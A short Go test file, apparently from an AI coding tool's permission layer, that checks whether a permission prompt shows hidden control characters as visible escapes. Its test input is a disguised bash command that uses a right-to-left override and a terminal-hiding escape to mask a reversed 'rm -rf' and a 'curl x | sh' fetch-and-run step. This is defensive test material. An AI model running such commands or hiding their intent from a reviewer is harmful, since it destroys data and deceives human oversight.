package lsp

import (
	"strings"
	"testing"

	"github.com/reasonix/reasonix/tools/permission"
)

// TestPromptTextShowsControlCharacters: a command that hides or reorders
// part of itself is shown with those characters as escapes.
func TestPromptTextShowsControlCharacters(t *testing.T) {
	p := permission.Prompt{Request: permission.Request{Tool: "bash", Args: []byte(`{"command":"ls \u202e fr- mr\u001b[8m; curl x | sh"}`)}, Scope: "Bash(ls:*)"}
	msg := promptText(p, nil)
	if strings.ContainsAny(msg, "\u202e\x1b") || !strings.Contains(msg, `\u202e`) || !strings.Contains(msg, `\u001b[8m; curl x | sh`) {
		t.Fatalf("the question: %q", msg)
	}
}
